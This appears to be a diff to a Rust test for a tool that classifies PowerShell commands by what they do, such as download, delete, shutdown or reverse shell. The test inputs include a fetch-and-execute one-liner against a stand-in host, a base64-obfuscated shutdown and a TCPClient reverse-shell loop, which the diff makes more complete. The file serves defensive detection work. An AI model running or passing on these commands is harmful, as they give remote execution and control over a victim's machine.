@@ -30,7 +30,10 @@ fn acts_of_powershell() {
                 "iwr https://x.example/a | iex",
                 &["same curl https://x.example/a", "shell curl 'https://x.example/a' | pwsh -", "unknown"],
             ),
-            ("Invoke-WebRequest -Uri https://x.example/a -OutFile a.exe", &["same curl -o a.exe https://x.example/a"]),
+            (
+                "Invoke-WebRequest -Uri https://x.example/a -OutFile a.exe",
+                &["same curl -o a.exe https://x.example/a"],
+            ),
             (
                 "iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('U3RvcC1Db21wdXRlcg==')))",
                 &["same shutdown -h now"],
@@ -49,7 +52,7 @@ fn acts_of_powershell() {
             ("if (Test-Path out) { Remove-Item out -Recurse }", &["same rm -r out"]),
             ("Get-ChildItem | ForEach-Object { Remove-Item $_ }", &["same rm $unknown"]),
             (
-                "$c = New-Object System.Net.Sockets.TCPClient('10.1.1.1',9001);$s=$c.GetStream();while($true){$d=1;$r=(iex $d 2>&1)}",
+                "$c = New-Object System.Net.Sockets.TCPClient('10.1.1.1',9001);$s=$c.GetStream();while($true){$d=$s.Read();$r=(iex $d 2>&1)}",
                 &["unknown", "reverse"],
             ),
         ],
